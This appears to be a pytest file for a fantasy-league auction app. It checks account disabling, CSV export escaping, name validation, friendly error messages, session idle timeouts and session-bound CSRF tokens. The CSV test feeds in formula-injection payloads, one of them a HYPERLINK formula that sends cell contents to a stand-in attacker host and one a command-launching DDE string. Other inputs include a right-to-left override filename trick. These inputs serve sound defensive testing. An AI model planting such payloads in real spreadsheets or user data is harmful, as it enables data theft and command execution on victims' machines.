"""Accounts and what people see (issue 10 items 4, 5 and 7; ASVS session items; issue 13 messages).

- A disabled account's hidden maximums stop bidding.
- CSV exports never carry a formula a spreadsheet would run.
- Names refuse control, format and zero-width characters with a clear message.
- Validation messages are sentences for people.
- Sessions end after inactivity; the CSRF token is bound to the session.
"""
from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timedelta, timezone

import pytest

from auction_app.repositories import auctions, proxies
from tests.support.factories import bearer, completed_league, make_league, make_user, session_token

SESSION_COOKIE = "auction_session"
NAME_MESSAGE = ("Names can only contain letters, numbers, spaces and punctuation: no line breaks, "
                "control characters or invisible formatting characters.")


# --- Item 4: disabled accounts' maximums ---------------------------------------------------

def test_a_disabled_members_hidden_maximum_stops_bidding_and_comes_back_when_enabled(app, client, db):
    from auction_app.services import auction_engine as engine

    league, users = make_league(db, members=3)
    boss, absent, present = users
    first_team = league["lot_order"][0]
    response = client.put(f"/api/leagues/{league['_id']}/proxies/{first_team}", json={"max_amount": 50},
                          headers=bearer(app, absent))
    assert response.status_code == 200
    admin = make_user(db, "Admin")
    db.users.update_one({"_id": admin["_id"]}, {"$set": {"role": "admin"}})
    disabled = client.post(f"/api/admin/users/{absent['_id']}/disable", headers=bearer(app, admin))
    assert disabled.status_code == 200 and disabled.get_json()["user"]["disabled"] is True
    assert proxies.for_team(db, league["_id"], first_team) == []

    now = datetime.now(timezone.utc)
    auction, _ = engine.start(db, league, boss["_id"], now)
    result = engine.place_bid(db, auction["_id"], present["_id"], 1, engine.new_idempotency_key(),
                              now + timedelta(seconds=1), lot_id=auction["lot"]["id"])
    assert result.accepted, result.to_ack()
    engine.run_proxies(db, auction["_id"], now + timedelta(seconds=2))
    lot = auctions.get(db, auction["_id"])["lot"]
    assert (lot["team_key"], lot["leader_id"], lot["price"]) == (first_team, present["_id"], 1)

    # Enabling the account again brings the maximum back (it was suspended, not deleted).
    assert client.post(f"/api/admin/users/{absent['_id']}/enable", headers=bearer(app, admin)).status_code == 200
    assert [p["user_id"] for p in proxies.for_team(db, league["_id"], first_team)] == [absent["_id"]]
    lot = auctions.get(db, auction["_id"])["lot"]
    assert (lot["leader_id"], lot["price"]) == (absent["_id"], 2), "the live auction bids for it again at once"


# --- Item 5: CSV formula injection ---------------------------------------------------------

@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0",
                                  "-2+3", "@SUM(A1:A9)", "\tTabbed", "\rReturned"])
def test_exports_never_carry_a_formula(app, client, db, catalogs, name):
    league, users = completed_league(db, [("arsenal", 0, 10), ("chelsea", 1, 12), ("liverpool", 0, 3)])
    auction_id = league["auction_id"]
    db.auctions.update_one({"_id": auction_id}, {"$set": {f"members.{users[0]['_id']}.name": name}})
    headers = bearer(app, users[1])
    for export in ("results.csv", "bids.csv"):
        response = client.get(f"/api/auctions/{auction_id}/{export}", headers=headers)
        assert response.status_code == 200
        rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
        cells = [cell for row in rows[1:] for cell in row]
        assert "'" + name in cells, (export, rows)          # shown as text, whole
        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells), (export, rows)


# --- Item 7: names people see --------------------------------------------------------------

BAD_NAMES = ["Bad\x00Name", "Two\nLines", "Del\x7fete", "C1\x85Next", "CSI\x9b31m", "evil\u202eexe.txt",
             "zero\u200bwidth", "join\u200dme", "bom\ufeff", "line\u2028sep"]


@pytest.mark.parametrize("bad", BAD_NAMES)
def test_names_with_control_format_or_zero_width_characters_are_refused(app, client, db, bad):
    league, users = make_league(db, members=2)
    headers = bearer(app, users[0])
    renamed = client.patch("/api/account", json={"display_name": bad}, headers=headers)
    created = client.post("/api/leagues", json={"name": bad, "sport_key": "premier-league"}, headers=headers)
    updated = client.patch(f"/api/leagues/{league['_id']}", json={"name": bad}, headers=headers)
    for response in (renamed, created, updated):
        assert response.status_code == 400, (bad, response.get_json())
        assert response.get_json()["error"] == {"code": "invalid_request", "message": NAME_MESSAGE,
                                                "details": [NAME_MESSAGE]}
    assert db.users.find_one({"_id": users[0]["_id"]})["display_name"] == users[0]["display_name"]
    assert db.leagues.find_one({"_id": league["_id"]})["name"] == league["name"]


def test_ordinary_names_from_anywhere_are_welcome(app, client, db, catalogs):
    user = make_user(db)
    headers = bearer(app, user)
    for name in ("Zoë O'Brien-Smith", "José 🎉", "محمد", "Ōtani & Co."):
        response = client.patch("/api/account", json={"display_name": name}, headers=headers)
        assert response.status_code == 200 and response.get_json()["user"]["display_name"] == name
    created = client.post("/api/leagues", json={"name": "Zoë's Five-a-side ⚽", "sport_key": "premier-league"},
                          headers=headers)
    assert created.status_code == 201, created.get_json()


def test_the_account_form_explains_a_refused_name(app, db):
    user = make_user(db)
    browser = app.test_client()
    browser.set_cookie(SESSION_COOKIE, session_token(app, user))
    browser.get("/account")
    token = browser.get_cookie("csrf_token").value
    page = browser.post("/account/name", data={"display_name": "Sneaky\u202eName", "csrf_token": token})
    assert page.status_code == 400
    assert "no line breaks, control characters or invisible formatting characters" in page.get_data(as_text=True)


# --- Issue 13: validation messages are sentences for people --------------------------------

@pytest.mark.parametrize("method, path, body, says", [
    ("patch", "/api/account", {"display_name": ""}, "Please enter a display name."),
    ("patch", "/api/account", {"display_name": "   "}, "Please enter a display name."),
    ("patch", "/api/account", {"display_name": "x" * 41}, "The display name is too long (at most 40 characters)."),
    ("patch", "/api/account", {}, "Please enter a display name."),
    ("post", "/api/auth/verify", {"token": "short"},
     "This sign-in link is not complete. Please open the link from the email again."),
    ("post", "/api/auth/code", {"email": "a@example.com", "code": "12"}, "The code is the 6 digits from the sign-in email."),
    ("post", "/api/leagues", {"sport_key": "premier-league"}, "Please enter a name."),
])
def test_validation_messages_are_written_for_people(app, client, db, method, path, body, says):
    response = getattr(client, method)(path, json=body, headers=bearer(app, make_user(db)))
    assert response.status_code == 400
    message = response.get_json()["error"]["message"]
    assert message == says
    assert not re.search(r"'\w+':|String should|Value error|Field required", message)


def test_the_account_form_says_what_to_do_when_the_name_is_empty(app, db):
    user = make_user(db)
    browser = app.test_client()
    browser.set_cookie(SESSION_COOKIE, session_token(app, user))
    browser.get("/account")
    page = browser.post("/account/name", data={"display_name": "", "csrf_token": browser.get_cookie("csrf_token").value})
    assert page.status_code == 400
    html = page.get_data(as_text=True)
    assert "Please enter a display name." in html and "String should" not in html and "&#39;display_name&#39;" not in html


# --- ASVS: inactivity timeout and a CSRF token bound to the session ------------------------

def test_a_session_unused_for_longer_than_the_idle_limit_ends(app, client, db):
    user = make_user(db)
    token = session_token(app, user)
    assert client.get("/api/account", headers={"Authorization": f"Bearer {token}"}).status_code == 200
    idle = timedelta(hours=app.config["SESSION_IDLE_HOURS"], minutes=5)
    stale = datetime.now(timezone.utc) - idle
    # Written as a whole document, as the emulator range-queries only dates written that way.
    session = db.sessions.find_one({"user_id": user["_id"]})
    db.sessions.replace_one({"_id": session["_id"]}, dict(session, last_seen_at=stale, created_at=stale))
    refused = client.get("/api/account", headers={"Authorization": f"Bearer {token}"})
    assert refused.status_code == 401 and refused.get_json()["error"]["code"] == "not_signed_in"
    # Well inside the absolute lifetime: it was the inactivity that ended it.
    assert session["expires_at"] > datetime.now(timezone.utc) + timedelta(days=1)


def test_an_active_session_keeps_moving_its_last_use_forward(app, db):
    """Every touch lands (not just the first), so a member in use is never timed out for inactivity."""
    from auction_app.repositories import sessions

    user = make_user(db)
    start = datetime.now(timezone.utc).replace(microsecond=0)
    doc = sessions.create(db, user_id=user["_id"], jti="jti-" + user["_id"], user_agent="pytest", ip=None,
                          now=start, expires_at=start + timedelta(days=7))
    every = timedelta(seconds=60)
    for minutes in (2, 4, 6):
        assert sessions.touch(db, doc["_id"], start + timedelta(minutes=minutes), every)
        assert not sessions.touch(db, doc["_id"], start + timedelta(minutes=minutes, seconds=30), every)
    assert sessions.get_by_jti(db, doc["jti"])["last_seen_at"] == start + timedelta(minutes=6)


def test_the_csrf_token_belongs_to_one_session(app, db):
    alice, mallory = make_user(db, "Alice"), make_user(db, "Mallory")
    victim = app.test_client()
    victim.set_cookie(SESSION_COOKIE, session_token(app, alice))
    victim.get("/account")
    victims_token = victim.get_cookie("csrf_token").value
    attacker = app.test_client()
    attacker.set_cookie(SESSION_COOKIE, session_token(app, mallory))
    attacker.get("/account")
    attackers_token = attacker.get_cookie("csrf_token").value
    assert attackers_token != victims_token
    # A token that would pass a plain double-submit check (cookie == field) but is not this session's:
    victim.set_cookie("csrf_token", attackers_token)
    refused = victim.post("/account/name", data={"display_name": "Pwned", "csrf_token": attackers_token})
    assert refused.status_code == 403
    assert db.users.find_one({"_id": alice["_id"]})["display_name"] == "Alice"
    # The session's own token works; after signing in again (a new session) the old token no longer does.
    victim.set_cookie("csrf_token", victims_token)
    assert victim.post("/account/name", data={"display_name": "Alice B", "csrf_token": victims_token}).status_code == 303
    victim.set_cookie(SESSION_COOKIE, session_token(app, alice))
    stale = victim.post("/account/name", data={"display_name": "Alice C", "csrf_token": victims_token})
    assert stale.status_code == 403


def test_exports_are_named_after_the_league_and_keep_maximums_private(app, client, db, catalogs):
    league, users = completed_league(db, [("arsenal", 0, 10), ("chelsea", 1, 12), ("liverpool", 0, 3)])
    db.leagues.update_one({"_id": league["_id"]}, {"$set": {"name": "Friday Club: 5-a-side!"}})
    headers = bearer(app, users[1])
    for export in ("results", "bids"):
        response = client.get(f"/api/auctions/{league['auction_id']}/{export}.csv", headers=headers)
        assert f'filename="friday-club-5-a-side-{export}.csv"' in response.headers["Content-Disposition"]
    header = client.get(f"/api/auctions/{league['auction_id']}/bids.csv", headers=headers).text.splitlines()[0]
    assert header == "seq,time_utc,team,bidder,amount", "nothing says which bids a hidden maximum placed"
